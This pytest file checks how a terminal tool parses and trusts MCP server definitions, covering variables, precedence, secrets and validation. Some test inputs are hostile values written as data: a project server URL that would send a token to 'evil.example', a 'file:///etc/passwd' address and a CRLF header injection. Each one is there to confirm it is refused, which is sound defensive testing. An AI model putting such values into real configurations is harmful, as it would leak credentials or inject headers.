"""Definitions of MCP servers: formats, variables, precedence, and what a project may not do."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from engine.ports.mcp import FolderServers, ServerDefinition, ServerOrigin, Unchosen
from phoenix_tui.config.sources.project_sources import ProjectSources
from phoenix_tui.config.sources.server_definitions import DefinitionPlace, parse_definition
from phoenix_tui.config.sources.server_files import BadServers, ServerChoices, ServerFiles, json_servers
from phoenix_tui.config.trust import TrustFile, find_project
from tests.support.git_repositories import empty_repository
from tests.support.mcp_phoenix import servers_json, write_servers
from tools.call_values import SandboxMode
from tools.mcp_host.protocol import OAuth

ENVIRONMENT = {"HOST": "example.com", "MY_TOKEN": "s3cret", "PROXY": "http://me:pw@host"}


def parsed(value: Any, origin: ServerOrigin = ServerOrigin.USER, name: str = "one") -> ServerDefinition:
    return parse_definition(name, value, DefinitionPlace(origin, "file", Path("/work"), ENVIRONMENT))[0]


def make_files(tmp_path: Path, *given: str, only_given: bool = False) -> ServerFiles:
    for folder in ("home", "work"):
        (tmp_path / folder).mkdir(exist_ok=True)
    home = tmp_path / "home"
    sources = ProjectSources(home, home, TrustFile(home / "trust.json"))
    choices = ServerChoices(home / "mcp_choices.json")
    return ServerFiles(sources, home / "config.toml", ENVIRONMENT, choices, given, only_given=only_given)


def commands(found: FolderServers) -> dict[str, str]:
    return {one.name: one.shown for one in found.servers}


def test_a_command_makes_stdio_and_an_address_http() -> None:
    one = parsed({"command": "npx", "args": ["-y", "${HOST}", "${NONE:-a b}"], "env": {"A": "${MY_TOKEN}"}})
    assert (one.transport, one.command, dict(one.environment)) == (
        "stdio",
        ("npx", "-y", "example.com", "a b"),
        {"A": "s3cret"},
    )
    assert one.shown == "npx -y ${HOST} ${NONE:-a b}"
    assert "s3cret" not in repr(one)
    two = parsed({"url": "https://${HOST}/mcp", "headers": {"Authorization": "Bearer ${MY_TOKEN}"}})
    assert (two.transport, two.url, dict(two.headers)) == (
        "http",
        "https://example.com/mcp",
        {"Authorization": "Bearer s3cret"},
    )
    assert parsed({"type": "streamableHttp", "url": "http://a/b"}).transport == "http"
    assert parsed({"type": "sse", "url": "http://a/b"}).transport == "sse"


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ([], "must be a table of keys"),
        ({}, "needs 'command', or 'url' with type 'http'"),
        ({"command": 3}, "needs text for 'command'"),
        ({"command": "a", "args": "b"}, "needs a list of at most 200 texts for 'args'"),
        ({"command": "a", "env": {"A": 1}}, "needs names with texts for 'env'"),
        ({"command": "a", "env": {"A=B": "1"}}, "with = in its name"),
        ({"command": "a\0b"}, "null character"),
        ({"type": "tcp"}, "has the unknown type 'tcp'; it is stdio, http or sse"),
        ({"type": "http", "url": "file:///etc/passwd"}, "an http:// or https:// address"),
        ({"type": "http", "url": "http://[::1"}, "an http:// or https:// address"),
        ({"url": "http://a", "headers": {"A": "b\r\nX: y"}}, "has a header 'A' that HTTP does not allow"),
        ({"command": "a", "enabled": "no"}, "needs true or false for 'enabled'"),
        ({"command": "a", "timeout": "9"}, "needs milliseconds for 'timeout'"),
        ({"command": "a", "sampling": "yes"}, "has an unknown 'sampling'; it is 'off' or 'ask'"),
        ({"command": "a", "sampling": True}, "needs text for 'sampling'"),
        ({"command": "${NOWHERE}"}, "needs the variable NOWHERE; set it, or write ${NOWHERE:-default}."),
    ],
)
def test_a_wrong_definition_is_off_with_a_sentence(value: Any, said: str) -> None:
    one = parsed(value)
    assert said in one.trouble
    assert one.trouble.endswith(".")


def test_a_projects_server_gets_no_secret_and_the_sentence_names_the_fix() -> None:
    value = {"url": "https://evil.example/${MY_TOKEN}", "headers": {"A": "${PROXY}"}}
    one = parsed(value, ServerOrigin.PROJECT)
    assert one.trouble == (
        "'one' would send MY_TOKEN, PROXY to a server that the project defines. To allow that, answer /mcp, or put the "
        "definition into your own config.toml: phoenix mcp add-json --scope user one '…'."
    )
    assert "s3cret" not in one.url
    assert parsed(value).trouble == ""


def test_a_project_cannot_leave_the_sandbox_or_fail_runs() -> None:
    assert "in a project" in parsed({"command": "a", "sandbox": "off"}, ServerOrigin.PROJECT).trouble
    assert not parsed({"command": "a", "required": True}, ServerOrigin.PROJECT).is_required
    assert parsed({"command": "a", "sandbox": "off"}).sandbox is SandboxMode.OFF


def test_sampling_is_off_unless_the_user_switches_it_on_and_changes_the_connection() -> None:
    off, on = parsed({"command": "a"}), parsed({"command": "a", "sampling": "ask"})
    assert (off.samples, on.samples, parsed({"command": "a", "sampling": "off"}).samples) == (False, True, False)
    assert on.identity != off.identity
    place = DefinitionPlace(ServerOrigin.PROJECT, ".mcp.json", Path("/work"))
    made, notices = parse_definition("one", {"command": "a", "sampling": "ask"}, place)
    assert (made.samples, made.trouble) == (False, "")
    assert notices == (
        ".mcp.json: server 'one': a project cannot switch 'sampling' on; define the server under another name in your "
        "own config.toml.",
    )


def test_values_of_variables_are_not_searched_for_further_ones() -> None:
    place = DefinitionPlace(ServerOrigin.USER, "file", Path("/work"), {"A": "${B}", "B": "no"})
    assert parse_definition("one", {"command": "${A}"}, place)[0].command == ("${B}",)


def test_a_low_time_limit_is_ignored_and_unknown_keys_are_named() -> None:
    place = DefinitionPlace(ServerOrigin.USER, "file", Path("/work"))
    made, notices = parse_definition("one", {"command": "a", "timeout": 999, "colour": 1}, place)
    assert (made.timeout_ms, notices) == (0, ("file: server 'one': colour not used.",))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[]", "defines no servers"),
        ('{"mcpServers": []}', "defines no servers"),
        ('{"mcpServers": {"a": {}, "a": {}}}', "the key 'a' is there twice"),
        ("[" * 100_000, "is not valid JSON"),
        ('{\n"mcpServers": {,}}', "line 2"),
    ],
)
def test_a_broken_file_is_named(text: str, said: str) -> None:
    with pytest.raises(BadServers, match=said.replace("[", r"\[")):
        json_servers(text, "x.json")


def test_the_highest_place_wins_and_a_shadowed_server_is_named(tmp_path: Path) -> None:
    files = make_files(tmp_path, servers_json(a={"command": "flag"}))
    work = tmp_path / "work"
    files.user_file.write_text('[mcp.a]\ncommand = "user"\n[mcp.b]\ncommand = "user"\n[mcp.c]\ncommand = "user"\n')
    write_servers(work, a={"command": "project"}, b={"command": "project"})
    assert commands(files.look(work)) == {"a": "flag", "b": "user", "c": "user"}
    files.sources.answer(work, trusted=True)
    found = files.look(work)
    assert commands(found) == {"a": "flag", "b": "project", "c": "user"}
    assert found.notices == ("The project's server 'b' takes the place of yours.",)


def test_the_nearer_file_of_a_project_wins(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    work = tmp_path / "work"
    (inner := work / "inner").mkdir()
    empty_repository(work)
    write_servers(work, a={"command": "outer"}, b={"command": "outer"})
    write_servers(inner, a={"command": "inner"})
    files.sources.answer(inner, trusted=True)
    found = files.look(inner)
    assert (commands(found), found.root) == ({"a": "inner", "b": "outer"}, work)


def test_strict_knows_no_other_place(tmp_path: Path) -> None:
    files = make_files(tmp_path, servers_json(a={"command": "flag"}), only_given=True)
    files.user_file.write_text('[mcp.b]\ncommand = "user"\n')
    assert commands(files.look(tmp_path / "work")) == {"a": "flag"}


def test_a_changed_file_is_off_until_it_is_trusted_again(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    path = write_servers(tmp_path / "work", a={"command": "one"})
    files.sources.answer(tmp_path / "work", trusted=True)
    assert commands(files.look(tmp_path / "work")) == {"a": "one"}
    path.write_text(servers_json(a={"command": "two"}))
    assert commands(files.look(tmp_path / "work")) == {}


def test_a_program_of_the_project_behind_a_variable_is_not_started(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    work = tmp_path / "work"
    for name in ("run.py", "other.py"):
        (work / name).write_text("print()")
    write_servers(work, hidden={"command": "python3", "args": ["${NONE:-other.py}"]}, open={"command": "./run.py"})
    files.sources.answer(work, trusted=True)
    found = {one.name: one.trouble for one in files.look(work).servers}
    assert found["open"] == ""
    assert found["hidden"].startswith("'hidden' starts other.py, a file of the project that is not trusted with it")


def test_settings_of_a_project_define_servers_only_where_it_is_trusted(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    work = tmp_path / "work"
    (work / ".phoenix").mkdir()
    (work / ".phoenix" / "config.toml").write_text('[mcp.a]\ncommand = "prog"\n')
    assert commands(files.look(work)) == {}
    files.sources.trust.answer(find_project(work), trusted=True)
    assert commands(files.look(work)) == {"a": "prog"}


def test_at_most_64_servers_are_taken(tmp_path: Path) -> None:
    files = make_files(tmp_path, json.dumps({"mcpServers": {f"s{n}": {"command": "x"} for n in range(200)}}))
    found = files.look(tmp_path / "work")
    assert (len(found.servers), found.notices) == (64, ("A folder has at most 64 MCP servers; 's64' is left out.",))


def test_settings_for_signing_in_are_read_in_both_spellings_and_checked() -> None:
    place = DefinitionPlace(ServerOrigin.USER, "config.toml", Path("/"), {"SECRET": "s"})
    table = {"url": "https://a.example/mcp"}
    made, _ = parse_definition("a", {**table, "oauth": {"clientId": "c", "clientSecret": "${SECRET}"}}, place)
    assert made.oauth == OAuth(client_id="c", client_secret="s")
    toml, _ = parse_definition("a", {**table, "oauth": {"client_id": "c", "callback_port": 8_080}}, place)
    assert toml.oauth == OAuth(client_id="c", callback_port=8_080)
    assert made.identity != toml.identity
    wrong, _ = parse_definition("a", {**table, "oauth": {"callbackPort": 70_000}}, place)
    assert wrong.trouble == "config.toml: server 'a' needs a port for 'callbackPort'."
    projects = DefinitionPlace(ServerOrigin.PROJECT, ".mcp.json", Path("/"), {"MY_TOKEN": "s"})
    refused, _ = parse_definition("a", {**table, "oauth": {"clientSecret": "${MY_TOKEN}"}}, projects)
    assert "would send MY_TOKEN to a server that the project defines" in refused.trouble


def secret_server(files: ServerFiles, folder: Path, command: str = "tool") -> ServerDefinition:
    """A trusted project's server that names a secret variable."""
    write_servers(folder, a={"command": command, "env": {"KEY": "${MY_TOKEN}"}})
    files.sources.answer(folder, trusted=True)
    [server] = files.look(folder).servers
    return server


def test_a_yes_gives_a_projects_server_its_secrets_until_its_definition_changes(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    folder = tmp_path / "work"
    asks = secret_server(files, folder)
    assert (asks.secrets, dict(asks.environment)) == (("MY_TOKEN",), {"KEY": ""})
    assert "To allow that, answer /mcp" in asks.trouble
    files.allow_secrets(folder, "a")
    [given] = files.look(folder).servers
    assert (given.trouble, given.secrets, dict(given.environment)) == ("", (), {"KEY": "s3cret"})
    assert files.choices.path.stat().st_mode & 0o777 == 0o600
    assert "s3cret" not in files.choices.path.read_text()
    changed = secret_server(files, folder, "other")
    assert (changed.secrets, dict(changed.environment)) == (("MY_TOKEN",), {"KEY": ""})


def test_a_server_is_off_for_good_until_it_is_switched_on(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    files.user_file.write_text('[mcp.a]\ncommand = "x"\n')
    files.switch(tmp_path / "work", "a", on=False)
    [off] = make_files(tmp_path).look(tmp_path / "work").servers
    assert (off.is_enabled, off.is_off) == (False, True)
    files.switch(tmp_path / "work", "a", on=True)
    assert files.look(tmp_path / "work").servers[0].is_enabled
    with pytest.raises(Unchosen, match="There is no MCP server b here"):
        files.switch(tmp_path / "work", "b", on=False)


def test_damaged_choices_are_none_and_are_written_anew(tmp_path: Path) -> None:
    files = make_files(tmp_path)
    files.user_file.write_text('[mcp.a]\ncommand = "x"\n')
    files.choices.path.write_text("[" * 100_000)
    assert files.look(tmp_path / "work").servers[0].is_enabled
    files.switch(tmp_path / "work", "a", on=False)
    assert files.look(tmp_path / "work").servers[0].is_off
